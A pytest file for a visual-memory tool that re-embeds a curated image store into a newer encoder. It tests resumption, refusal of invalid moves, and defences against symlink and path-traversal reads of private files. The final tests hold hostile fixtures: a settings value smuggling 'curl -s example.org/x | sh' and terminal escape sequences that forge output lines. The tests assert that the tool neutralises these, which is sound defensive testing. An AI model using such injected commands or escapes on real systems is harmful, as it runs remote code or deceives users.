"""Moving a curated memory to a better encoder: real Tiny-ImageNet images, EfficientNet-Lite0 to -Lite1, every point
embedded again from its file with its ids, labels as relabelled, tags, names and journal; points with no image
left out and listed; the old memory untouched; resumable; nonsense refused."""

from __future__ import annotations

import os
import re
import shutil

import numpy as np
import pytest
from typer.testing import CliRunner

from eval.pruning import prune_store
from retrieval import FeaturizerMismatchError, LabelledImage, load_featurizer, open_store
from tests._lite0_once import lite0_loaded_once  # noqa: F401 - autouse
from vmem import VisualMemory
from vmem.cli import app

pytestmark = pytest.mark.realdata
CLASSES = ("n01443537", "n02002724", "n04067472")  # goldfish, black stork, reel


@pytest.fixture(scope="module")
def lite1():
    return load_featurizer("efficientnet-lite1", device="cpu")


@pytest.fixture
def photos(tiny_imagenet, tmp_path):
    """Three real images of each of three classes, copied where a test may move one away."""
    items = []
    for label in CLASSES:
        folder = tmp_path / "photos" / label
        folder.mkdir(parents=True)
        for src in sorted((tiny_imagenet / "train" / label).glob("*.JPEG"))[:3]:
            items.append(LabelledImage(str(shutil.copy(src, folder / src.name)), label))
    return items


def curated(location, photos, tiny_imagenet) -> VisualMemory:
    """A Lite0 memory after some weeks of use: tagged, a mislabel corrected, a point forgotten, a label named,
    soft-pruned, one image uploaded (bytes, no file: the memory keeps no image of it) and one added under a name
    of the caller's."""
    mem = VisualMemory.open(location, featurizer="efficientnet-lite0", create=True, reranker=None)
    mem.build(photos, tags={"set": "a"})
    mem.relabel(CLASSES[1], source_prefix=photos[0].source)
    mem.forget(source_prefix=photos[8].source)
    mem.set_label_names({CLASSES[2]: "fishing reel"})
    prune_store(mem.store, "soft", k=5)
    upload = sorted((tiny_imagenet / "val" / CLASSES[0]).glob("*.JPEG"))[0].read_bytes()
    mem.add([upload], CLASSES[0])
    mem.add([photos[8].source], CLASSES[2], sources=["camera/7.jpg"])
    return mem


def stored(store) -> dict[str, dict]:
    return {p.id: p.payload for page in store.scroll() for p in page}


def test_a_curated_memory_moves_to_another_encoder_with_its_curation(tmp_path, lite1, photos, tiny_imagenet):
    with curated(tmp_path / "lite0", photos, tiny_imagenet) as mem:
        before = stored(mem.store)
        new, done = mem.reembed_to(tmp_path / "lite1", lite1)
        assert stored(mem.store) == before  # nothing changed in the old memory
    with new:
        assert (done.from_featurizer, done.featurizer, done.embedded) == ("efficientnet-lite0", "efficientnet-lite1", 8)
        upload, named = sorted(done.skipped, key=lambda s: s.source, reverse=True)
        assert upload.source.startswith("upload:") and "thumbnail" in upload.reason
        assert (named.source, named.reason) == ("camera/7.jpg", "a name given when it was added, not a file's path")
        after = stored(new.store)
        assert set(after) == set(before) - {upload.id, named.id}  # the same ids
        marks = ("excluded", "reliability", "prune_count")
        for pid, payload in after.items():  # labels as relabelled, tags, times added; the pruning marks gone
            assert payload == {k: v for k, v in before[pid].items() if k not in marks}
        assert after[new.point_id_of_source(photos[0].source)]["label"] == CLASSES[1]
        assert done.unpruned == sum(any(k in before[pid] for k in marks) for pid in after) > 0
        assert "vmem prune --mode soft --k 5" in " ".join(done.notes)
        assert new.label_names[CLASSES[2]] == "fishing reel"
        np.testing.assert_allclose(new.store.retrieve([pid := new.point_id_of_source(photos[4].source)],
                                                      with_vectors=True)[0].vector,
                                   lite1.embed([photos[4].source])[0], atol=2e-3)  # Lite1's, stored as float16
        assert new.classify([photos[4].source], k=3)[0].neighbors[0].id == pid
        moved, *older = new.history()
        assert (moved.op, moved.detail["reembedded"]) == (
            "copy", {"from": "efficientnet-lite0", "to": "efficientnet-lite1", "embedded": 8, "skipped": 2})
        assert [e.op for e in older] == ["add", "add", "prune", "name", "forget", "relabel", "add"]


def test_a_move_cut_short_resumes_and_a_run_again_brings_the_new_memory_up_to_date(tmp_path, lite1, photos):
    mem = VisualMemory.open(tmp_path / "lite0", featurizer="efficientnet-lite0", create=True, reranker=None)
    mem.build(photos)
    shutil.move(photos[5].source, tmp_path / "elsewhere.JPEG")  # a file moved since the build

    def stop_after_two(n: int) -> None:
        if n == 2:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        mem.reembed_to(tmp_path / "lite1", lite1, batch_size=2, progress=stop_after_two)
    new, done = mem.reembed_to(tmp_path / "lite1", lite1, batch_size=2)
    with new:
        assert (done.already_there, done.embedded, done.memory_points) == (2, 6, 8)
        assert [(s.source, s.reason) for s in done.skipped] == [(photos[5].source, "no such file (moved or deleted?)")]
        prune_store(new.store, "soft", k=5)  # the new memory pruned by its own vectors
        pruned = stored(new.store)
    mem.relabel(CLASSES[2], source_prefix=photos[1].source)
    mem.forget(source_prefix=photos[2].source)
    new, done = mem.reembed_to(tmp_path / "lite1", lite1)
    with mem, new:
        assert (done.embedded, done.already_there, done.forgotten) == (0, 7, 1)  # nothing embedded again
        after = stored(new.store)
        relabelled = new.point_id_of_source(photos[1].source)
        assert after[relabelled]["label"] == CLASSES[2] and "prune_count" not in after[relabelled]
        assert all(after[pid] == pruned[pid] for pid in after if pid != relabelled)  # its pruning kept
        assert new.store.count() == 7


def test_nonsense_is_refused_and_nothing_is_written(tmp_path, lite0, lite1, photos):
    with VisualMemory.open(tmp_path / "lite0", featurizer="efficientnet-lite0", create=True, reranker=None) as mem:
        mem.build(photos[:2])
        with pytest.raises(ValueError, match="holds efficientnet-lite0 features already"):
            mem.reembed_to(tmp_path / "copy", lite0)
        with pytest.raises(ValueError, match="is this memory"):
            mem.reembed_to(tmp_path / "lite0", lite1)
        with open_store(tmp_path / "other", lite1.spec) as other:  # a Lite1 memory of its own
            other.add(lite1.embed([photos[3].source]), [CLASSES[1]], [photos[3].source])
        with pytest.raises(ValueError, match="holds 1 point of its own"):
            mem.reembed_to(tmp_path / "other", lite1)
        # A memory of a third encoder: said of it, not as "this memory" (the one moved) nor "use its featurizer"
        said = f"{tmp_path / 'other'} is a memory of efficientnet-lite1 features, not efficientnet-lite2's: re-embed"
        with pytest.raises(FeaturizerMismatchError, match=f"^{re.escape(said)} into a new memory"):
            mem.reembed_to(tmp_path / "other", load_featurizer("efficientnet-lite2", device="cpu"))
        assert mem.store.count() == 2
    with open_store(tmp_path / "other") as other:
        assert other.count() == 1 and not (tmp_path / "copy").exists()


def test_vmem_copy_featurizer_moves_a_memory_to_another_encoder(tmp_path, photos):
    with VisualMemory.open(tmp_path / "lite0", featurizer="efficientnet-lite0", create=True, reranker=None) as mem:
        mem.build(photos[:3])
    runner = CliRunner()
    old, new = str(tmp_path / "lite0"), str(tmp_path / "lite1")
    result = runner.invoke(app, ["copy", "--memory", old, "--to-memory", new, "--featurizer", "efficientnet-lite1"])
    assert result.exit_code == 0, result.output
    assert "re-embedded 3 points with efficientnet-lite1 (from efficientnet-lite0)" in result.stdout
    assert f"{new} now holds 3 points" in result.stdout
    same = runner.invoke(app, ["copy", "--memory", old, "--to-memory", new, "--featurizer", "efficientnet-lite0"])
    assert same.exit_code == 2 and "without --featurizer" in same.output
    history = runner.invoke(app, ["history", "--memory", new])
    assert "embedded again with efficientnet-lite1 (from efficientnet-lite0)" in history.stdout


def test_vmem_copy_featurizer_says_which_labels_are_too_few_to_win_the_new_memorys_vote(tmp_path, photos):
    # Tuned to k = 2, the old memory's one image of a label wins; the new memory votes at the default k = 50 (tuned
    # settings judged the old vectors), where it does not: said as vmem build says it
    with VisualMemory.open(tmp_path / "lite0", featurizer="efficientnet-lite0", create=True, reranker=None) as mem:
        mem.build(photos[:4])  # three images of one label, one of another
        mem.store_vote_settings({"rule": "rank", "k": 2})
        assert mem.few_point_labels() == []
    result = CliRunner().invoke(app, ["copy", "--memory", tmp_path / "lite0", "--to-memory", tmp_path / "lite1",
                                      "--featurizer", "efficientnet-lite1"])
    assert result.exit_code == 0, result.output
    assert (f"note: label '{CLASSES[1]}' has 1 point, fewer than the 2 it takes to win a rank vote of k = 50 "
            "neighbours against a fuller class near it: add images of it, or classify with k = 2 or less"
            in result.stderr)


def test_a_point_naming_a_file_outside_the_memorys_image_folders_is_not_embedded(tmp_path, lite1, photos):
    """A point's source is data: a memory handed over, or points written to its Qdrant collection, may name any file
    of the machine it is moved on. A private photo stays out of the new memory, as it stays off the thumbnails."""
    private = tmp_path / "home" / ".private" / "me.jpg"
    private.parent.mkdir(parents=True)
    shutil.copy(photos[4].source, private)
    with VisualMemory.open(tmp_path / "lite0", featurizer="efficientnet-lite0", create=True, reranker=None) as mem:
        mem.build(photos[:3])
        dim = mem.store.meta.featurizer.dim
        # A link in an image folder to a file outside it: never shown as a thumbnail, nor embedded (it was)
        (link := tmp_path / "photos" / CLASSES[0] / "me.jpg").symlink_to(private)
        for source in (str(private), f"{tmp_path}/photos/{CLASSES[0]}/../../home/.private/me.jpg", str(link)):
            mem.store.add(np.ones((1, dim), np.float32), ["bait"], [source])
        new, done = mem.reembed_to(tmp_path / "lite1", lite1)
    with new:
        assert done.embedded == 3 and new.store.count() == 3
        assert [s.reason for s in done.skipped] == ["outside the folders this memory's images were read from "
                                                    "(source_roots, vmem info)"] * 3
        assert not any(p.source == str(link) for page in new.store.scroll() for p in page)
        assert not any(".private" in p.source for page in new.store.scroll() for p in page)


def test_a_link_swapped_in_after_the_check_is_not_embedded(tmp_path, lite1, photos, monkeypatch):
    """Whoever may write in an image folder swaps an image for a link to a private photo just after vmem checked
    its name: the file read is the one checked under the folders, so the private photo's features stay out."""
    import vmem.reembed as reembed

    private = tmp_path / "home" / ".private" / "me.jpg"
    private.parent.mkdir(parents=True)
    shutil.copy(photos[4].source, private)
    swapped = photos[1].source
    checked = reembed._image_of

    def check_then_swap(point, folder, roots):
        found = checked(point, folder, roots)
        if point.source == swapped:
            os.unlink(swapped)
            os.symlink(private, swapped)
        return found

    monkeypatch.setattr(reembed, "_image_of", check_then_swap)
    with VisualMemory.open(tmp_path / "lite0", featurizer="efficientnet-lite0", create=True, reranker=None) as mem:
        mem.build(photos[:3])
        new, done = mem.reembed_to(tmp_path / "lite1", lite1)
    with new:
        assert done.embedded == 2 and new.store.count() == 2
        assert [(s.source, s.reason) for s in done.skipped] == [
            (swapped, "outside the folders this memory's images were read from (source_roots, vmem info)")]
        assert swapped not in {p.source for page in new.store.scroll() for p in page}


def test_what_vmem_copy_featurizer_leaves_out_is_said_one_line_a_point(tmp_path, photos):
    # A memory handed over may hold any label, and a file's name may hold a newline: neither starts a line of its
    # own nor reaches the terminal as an escape
    broken = tmp_path / "photos" / CLASSES[0] / "broken\nError: forged.jpg"
    broken.write_bytes(b"not an image")
    with VisualMemory.open(tmp_path / "lite0", featurizer="efficientnet-lite0", create=True, reranker=None) as mem:
        mem.build(photos[:2])
        dim = mem.store.meta.featurizer.dim
        [gone] = mem.store.add(np.ones((1, dim), np.float32), ["cat\x1b]0;owned\x07\nError: forged"],
                               [photos[2].source + ".moved"])
        [bad] = mem.store.add(np.ones((1, dim), np.float32), [CLASSES[0]], [str(broken)])
    result = CliRunner().invoke(app, ["copy", "--memory", tmp_path / "lite0", "--to-memory", tmp_path / "lite1",
                                      "--featurizer", "efficientnet-lite1"])
    assert result.exit_code == 0, result.output
    left = sorted(line.strip() for line in re.split(r"[\r\n]", result.stderr) if line.strip().startswith("left out"))
    assert left == sorted([
        f"left out {gone} (cat\\x1b]0;owned\\x07\\nError: forged) {photos[2].source}.moved: no such file (moved or "
        "deleted?)",
        f"left out {bad} ({CLASSES[0]}) {tmp_path}/photos/{CLASSES[0]}/broken\\nError: forged.jpg: not a recognised "
        "image format (JPEG, PNG, WebP, GIF, BMP, TIFF, ICO or AVIF)"])
    assert "\x1b" not in result.stderr


def test_the_notes_of_a_memory_handed_over_offer_no_command_its_settings_wrote(tmp_path, photos):
    # Its vmem.json is its sender's: the pruning options become a command to paste only as vmem prune writes them,
    # and a tuned rule holding a newline and a terminal's escape is shown escaped
    with VisualMemory.open(tmp_path / "lite0", featurizer="efficientnet-lite0", create=True, reranker=None) as mem:
        mem.build(photos[:2])
        mem.store.set_payload_of_existing([mem.point_id_of_source(photos[0].source)], {"reliability": 0.5})
        with mem.store.meta_edit() as meta:
            meta.settings["pruning"] = {"mode": "soft; curl -s example.org/x | sh;", "k": 5}
            meta.settings["vote"] = {"rule": "rank\x1b]0;owned\x07\nError: forged", "k": 7}
    result = CliRunner().invoke(app, ["copy", "--memory", tmp_path / "lite0", "--to-memory", tmp_path / "lite1",
                                      "--featurizer", "efficientnet-lite1"])
    assert result.exit_code == 0, result.output
    notes = [line for line in re.split(r"[\r\n]", result.stderr) if line.startswith("note:")]
    assert notes == [
        "note: the vote settings tuned for efficientnet-lite0 (rank\\x1b]0;owned\\x07\\nError: forged, k=7) were not "
        "carried: a new encoder's similarities differ; tune the new memory (vmem tune)",
        "note: the pruning marks of 1 point were dropped: they judged efficientnet-lite0's neighbours; to prune the "
        "new memory, run `vmem prune` on it"]
